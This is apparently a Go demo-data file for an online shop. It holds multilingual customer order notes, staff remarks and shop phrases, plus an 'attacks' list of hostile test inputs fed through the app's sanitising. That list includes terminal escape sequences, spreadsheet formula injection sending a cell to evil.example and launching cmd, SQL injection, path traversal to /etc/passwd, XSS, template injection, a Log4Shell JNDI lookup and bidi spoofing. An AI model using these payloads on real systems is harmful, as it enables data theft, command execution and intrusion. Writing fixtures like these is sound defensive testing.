//nolint:misspell // Portuguese and Polish are no misspelt English
package demo

// wishes are what customers write beneath their orders, by language.
var wishes = map[string][]string{
	"pt": lines(`Embrulhar para presente, por favor 🎁|É surpresa de aniversário: não coloquem a nota na caixa!
		|Por favor, deixar com o porteiro Seu Ademir.|Se não tiver o verde-oliva, pode mandar o terracota.
		|Amo o trabalho de vocês! É a terceira vez que compro.|Entregar só depois das 18h, trabalho o dia todo.
		|É para o casamento da minha irmã no dia 12, pode chegar antes?|Cuidado com o cachorro, ele é bonzinho mas late.
		|Podem escrever um cartão? “Para Dona Lurdes, com carinho, dos netos.”|Sem plástico na embalagem, se der. Obrigada!
		|O interfone está quebrado, favor ligar quando chegar.|Vi no Instagram da @casa.clara e me apaixonei.
		|Caso a caneca venha lascada como da última vez, prefiro crédito.|Preciso de nota fiscal em nome da empresa.
		|Tamanho M veste bem em quem usa 40?|Mande o mais rápido possível, já está frio aqui no sul!`),
	"pl": lines(`Proszę zapakować na prezent 🎁|To niespodzianka na urodziny, proszę nie wkładać paragonu do paczki!
		|Paczkę proszę zostawić u sąsiadki spod czwórki.|Jeśli nie ma oliwkowego, może być terakota.
		|Kocham wasze kubki, to już trzeci!|Proszę o fakturę na firmę.|Domofon nie działa, proszę dzwonić.
		|Czy zdążycie przed Wigilią? Bardzo proszę!|Bez folii, jeśli się da. Dziękuję!
		|Proszę dołączyć karteczkę: „Dla Babci Jadzi, z całego serca”.|Ostatnio jeden talerz był pęknięty, proszę dobrze owinąć.
		|Do paczkomatu ŁOD14A, dziękuję|Dostawa najlepiej w piątek, w tygodniu jestem w Gdańsku.
		|Na nowe mieszkanie, więc proszę ładnie zapakować :)`),
	"en": lines(`Gift wrap, please!|Please leave it with the doorman.|It's a housewarming gift, no prices in the box please.
		|If olive is sold out, terracotta is fine too.|The buzzer is broken, please call.|Love your candles, third order already!
		|Please ship before Thanksgiving if you can.|Fragile! The last mug arrived chipped.|No plastic, if possible. Thank you.
		|Could you add a card? "To Ruth, from all of us on the 4th floor."|Deliver after 5 pm, the dog gets nervous.
		|Do not bend, it's for framing.`),
	"ja": lines(`ギフト包装をお願いします。|不在の場合は宅配ボックスに入れてください。|母の誕生日プレゼントです。値札は外してください。
		|前回のマグカップもとても素敵でした。|なるべく簡易包装でお願いします。|18時以降の配達を希望します。
		|割れ物なので、しっかり梱包してください。|領収書を同封してください。`),
}

// remarks are what staff write for each other, by the shop's language.
var remarks = map[string][]string{
	"pt": lines(`Cliente ligou: confirmar o endereço antes de enviar.|Prometi enviar junto com o próximo pedido.
		|Cliente antiga, mandar um sabonete de brinde.|Troquei a cor a pedido da cliente, avisado por WhatsApp.
		|Verificar estoque com a Minas antes de pagar.|Pagou o Pix em dobro da outra vez, conferir.|Embalar com papel de seda.
		|Falei com a transportadora: endereço certo, tentar de novo.|Não esquecer do cartão escrito à mão.`),
	"pl": lines(`Klientka dzwoniła: potwierdzić adres przed wysyłką.|Wysłać razem z następnym zamówieniem.
		|Stała klientka, dołożyć mydełko gratis.|Zmieniony kolor na prośbę klienta, potwierdzone mailem.
		|Sprawdzić stan u Lumen przed zapłatą.|Faktura wysłana.|Owinąć podwójnie, szkło!|Kurier był dwa razy, umówić na sobotę.`),
}

// phrases are the words of the shops, by language.
type phrases struct {
	created, paidBy, cancelledBecause, wrap, codFee string
	standard, express, locker, abroad, download     string
	reasons                                         [4]string // customer, stock, payment, test
	refundReasons                                   []string
	returnNote                                      string
}

var tongues = map[string]*phrases{
	"pt": {
		created: "Pedido recebido", paidBy: "Pagamento confirmado", cancelledBecause: "Pedido cancelado: ",
		wrap: "Embalagem para presente", codFee: "Taxa de pagamento na entrega",
		standard: "Correios PAC", express: "Sedex", locker: "Retirada na agência", abroad: "Internacional", download: "Download",
		reasons: [4]string{"o cliente desistiu", "produto esgotado no fornecedor", "pagamento não concluído", "pedido de teste"},
		refundReasons: lines(`Chegou quebrado|Tamanho errado|Não era o que eu esperava|Demorou demais|Cor diferente da foto
			|Faltou um item no pacote`),
		returnNote: "Devolução recebida e conferida",
	},
	"pl": {
		created: "Zamówienie przyjęte", paidBy: "Płatność potwierdzona", cancelledBecause: "Zamówienie anulowane: ",
		wrap: "Pakowanie na prezent", codFee: "Opłata za pobranie",
		standard: "Kurier DPD", express: "Kurier ekspres", locker: "Paczkomat InPost", abroad: "Przesyłka zagraniczna", download: "Do pobrania",
		reasons: [4]string{"klient zrezygnował", "brak towaru u dostawcy", "brak płatności", "zamówienie testowe"},
		refundReasons: lines(`Przyszło stłuczone|Zły rozmiar|Nie tego się spodziewałem|Za długo szło|Inny kolor niż na zdjęciu
			|Brakowało jednej rzeczy w paczce`),
		returnNote: "Zwrot przyjęty i sprawdzony",
	},
}

// refusals are why a payment to a supplier does not go through, in the supplier's words.
var refusals = lines(`Card declined by issuer (05): contact your bank|Insufficient balance: top up to continue
	|3-D Secure not completed within 10 minutes|Payment limit of this account exceeded|Cartão recusado: saldo insuficiente`)

// shortages are why a supplier cancels.
var shortages = lines(`Out of stock at warehouse GRU-2|Item discontinued by the maker|Damaged in quality control, no replacement`)

// attacks are texts that want to break what shows them. They pass through the same cleaning as all text from outside.
var attacks = []struct{ name, company, line1, note, title string }{
	{
		name:  "\x1b[31;1mAlerta\x1b[0m \x1b]0;pwned\x07Vermelho",
		line1: "\x1b]8;;https://evil.example\x1b\\Rua do Link\x1b]8;;\x1b\\, 8",
		note:  "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"clique aqui\")\r\n\x1b[2J\x1b[H",
	},
	{
		name:    "=HYPERLINK(\"https://evil.example\";\"Fatura\")",
		company: "@SUM(1+1)*cmd|' /C calc'!A0",
		line1:   "+1-1 Rua da Soma",
		note:    "-2+3+cmd|' /C notepad'!A1\t=1+1",
	},
	{
		name:  "Ana \u202egpj.atarf\u202c\u2066 Silva\u2069",
		line1: "Rua\u200b Invi\u200dsível\ufeff, 0",
		note:  "Z̷̧̢̛̛̛̛̛̛̛̛̛̛̛̛̛̛̛̛a̵̡̡̛̛̛̛̛̛l̶̢̛̛g̷o\u2028nova linha\u0085fim\x00",
		title: "Caneca 👩‍👩‍👧‍👦 com um nome muito comprido, que não acaba nunca, porque alguém colou a descrição inteira do produto no " +
			"título: cerâmica feita à mão em Cunha, esmalte fosco, 350 ml, própria para micro-ondas e lava-louças, cada peça é única, " +
			"pequenas variações de cor e forma fazem parte do processo e não são defeitos, acompanha caixa reciclada e cartão",
	},
	{
		name:  "Robert'); DROP TABLE orders;--",
		line1: "../../../../etc/passwd",
		note:  "<script>alert('oi')</script> {{7*7}} ${jndi:ldap://evil.example/a} %s%n",
		title: "\u200f\u200f\"Título\",\"com\";aspas\te\nquebra",
	},
}
